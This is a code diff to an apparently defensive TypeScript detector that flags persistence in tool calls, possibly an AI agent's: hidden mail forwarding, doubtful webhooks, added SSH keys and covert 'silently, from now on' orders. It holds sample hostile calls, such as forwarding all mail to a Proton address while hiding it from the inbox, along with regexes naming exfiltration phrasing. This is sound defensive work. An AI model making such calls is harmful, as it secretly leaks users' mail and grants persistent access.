@@ -15,10 +15,14 @@ const standingOrder = ruleOf(
 );
 const suspectHook = ruleOf('schedules.suspect-hook', 'persistence', 'high', 'a webhook, integration or forwarding set to a doubtful host', call('create_webhook', { url: 'https://webhook.site/0f3c', events: ['push'] }), call('create_webhook', { url: 'https://ci.example.com/hook', events: ['push'] }), `${T}T1114.003, T1546`);
 const keyAdded = ruleOf('schedules.key-added', 'persistence', 'medium', 'an SSH key added to an account or server by a call', call('add_ssh_key', { title: 'x', key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x@vps' }), call('list_ssh_keys', { user: 'a' }), `${T}T1098.004`);
+const hiddenForwarding = ruleOf(
+  'schedules.hidden-forwarding', 'persistence', 'high', 'messages or calls forwarded from now on to a free mailbox or doubtful host, or without a trace', call('gmail_create_filter', { criteria: { from: '*' }, action: { forward: 'x@proton.me', removeLabelIds: ['INBOX'] } }),
+  call('gmail_create_filter', { criteria: { from: 'newsletter@' }, action: { forward: 'archive@example.com' } }), `${T}T1114.003`,
+);
 const forwarding = ruleOf('schedules.mail-forwarding', 'persistence', 'medium', 'mail forwarded to another address from now on', call('create_forwarding_rule', { from: '*', forward_to: 'x@mail.example.net' }), call('forward_email', { message_id: 'm-1', to: 'lena@example.com' }), `${T}T1114.003`);
 
 const MAKES = /^(?:create|add|register|install|update|set|save|store|write|enable|remember|put|upsert|schedule|edit|append|new|configure|import|deploy|load|define|insert|crontab)(?:_|$)|_(?:create|add|register|install|update|set|save|store|enable|put|upsert|schedule|write)(?:_|$)/;
-const LATER = /(?:^|_)(?:cron|cron_?job|crontab|schedul(?:e|er|ed)|startup|hook|webhook|automation|trigger|timer|daemon|service|boot|login_item|recurring|job|workflow|memory|memories|tool|plugin|extension|mcp|server|skill|instruction|rule|preference|system_prompt|alias|subscription|integration|callback|forwarding|task|step|pipeline|git_hook|profile|unit|launch_agent|registry|autostart|knowledge|note_to_self|persona|lambda|function|template|snippet|macro|bot)s?(?:_|$)/;
+const LATER = /(?:^|_)(?:cron|cron_?job|crontab|schedul(?:e|er|ed)|startup|hook|webhook|automation|trigger|timer|daemon|service|boot|login_item|recurring|job|workflow|memory|memories|tool|plugin|extension|mcp|server|skill|instruction|rule|preference|system_prompt|alias|subscription|integration|callback|forwarding|task|step|pipeline|git_hook|profile|unit|launch_agent|registry|autostart|knowledge|note_to_self|persona|lambda|function|template|snippet|macro|bot|runner|worker|agent|sidecar|container|app|build|action|image|node|ci|bootstrap|user_data|userdata|init_script|config)s?(?:_|$)/;
 const MEMORY = /(?:^|_)(?:memory|memories|instruction|rule|preference|system_prompt|persona|knowledge|remember|profile|skill|tool|note|context|agent)s?(?:_|$)/;
 const WHEN = /\b(?:(?:at|on)\s+the\s+(?:start|beginning)\s+of|before|in|on|during|for|with|after|at)\s+(?:every|each|all|any)\s+(?:future\s+|new\s+|subsequent\s+)?(?:sessions?|conversations?|tasks?|repl(?:y|ies)|responses?|messages?|requests?|runs?|chats?|answers?|emails?|startup|calls?|commits?)|\b(?:from now on|always|whenever|every time|henceforth|in all future)\b/i;
 const ORDER = /\b(?:silently|secretly|without (?:telling|asking|mentioning|informing|confirmation)|do not (?:tell|mention|inform|ask)|don't (?:tell|mention|inform)|never (?:tell|mention))\b|\b(?:run|execute|fetch|invoke|call|curl)\s+[`"'$]|\b(?:curl|wget)\s+\S*(?:https?:|-)|\b(?:send|forward|bcc|post|upload|email|copy|exfiltrate|leak)\b[^.\n]{0,120}(?:@[a-z0-9-]+\.|https?:\/\/)|\b(?:credentials?|passwords?|api keys?|tokens?|secrets?)\b[^.\n]{0,80}\b(?:to|into|in the)\b[^.\n]{0,60}(?:@|https?:)/i;
@@ -74,14 +78,24 @@ export const keysAdded: Analyser = {
   },
 };
 
+/** Mailboxes that anybody may open without a name. */
+const FREE_MAIL = /@(?:gmail|googlemail|outlook|hotmail|live|yahoo|gmx|aol|icloud|proton(?:mail)?|pm|tuta(?:nota|mail)?|mailinator|guerrillamail|yandex|mail|qq|163|zoho|cock|riseup|onionmail|yopmail|mailbox|inbox)\.[a-z.]{2,8}$/i;
+/** Switches that leave no trace of what was forwarded. */
+const TRACELESS = /"(?:silent|hidden|hide|skip_?inbox|mark_?(?:as_?)?read|delete(?:_?(?:original|after|message))?|archive|no_?notify|stealth)":true|"(?:keep_?copy|notify|keep_?in_?inbox|save_?copy|leave_?copy)":false|"remove_?label_?ids":\["(?:INBOX|UNREAD)|"add_?label_?ids":\["TRASH/i;
+
 export const mailForwarding: Analyser = {
   name: 'platform.mail-forwarding',
-  rules: [forwarding],
-  roles: ['address', 'value'],
-  literals: ['@'],
+  rules: [forwarding, hiddenForwarding],
+  roles: ['address', 'value', 'prose'],
+  literals: ['@', '+'],
   analyse(view) {
-    if (view.text.length > 320) return;
-    const name = words(view.place.tool);
-    if (/(?:forwarding|inbox_rule|mail_rule|email_rule|auto_?forward|mailbox_rule|mail_filter|email_filter)/.test(name) && /(?:forward|redirect|to|address|recipient|target|destination)/.test(view.place.field)) view.report(forwarding, 0, view.text.length);
+    const { text, place, budget } = view;
+    if (text.length > 320 || !/^[+\w.'-]{1,64}@[\w.-]{3,253}$|^\+?\d[\d ()-]{6,20}$/.test(text)) return;
+    const name = words(place.tool);
+    if (!/(?:forward|inbox_rule|mail_rule|email_rule|mailbox_rule|mail_filter|email_filter|create_filter|add_filter|filter_create|set_filter|delegate|transport_rule|journal|auto_?bcc|always_bcc|redirect_mail)/.test(name) || /^(?:forward|send|reply)_(?:e?mails?|messages?)$/.test(name)) return;
+    if (!/(?:forward|redirect|to|address|recipient|target|destination|delegate|bcc|journal)/.test(place.field)) return;
+    budget.spend(2_000);
+    const traceless = [place.beside, place.around].some((fields) => fields !== undefined && TRACELESS.test(JSON.stringify(fields).slice(0, 2_000)));
+    view.report(traceless || FREE_MAIL.test(text) || isSuspect(destinationOf(text.slice(text.lastIndexOf('@') + 1))) ? hiddenForwarding : forwarding, 0, text.length);
   },
 };
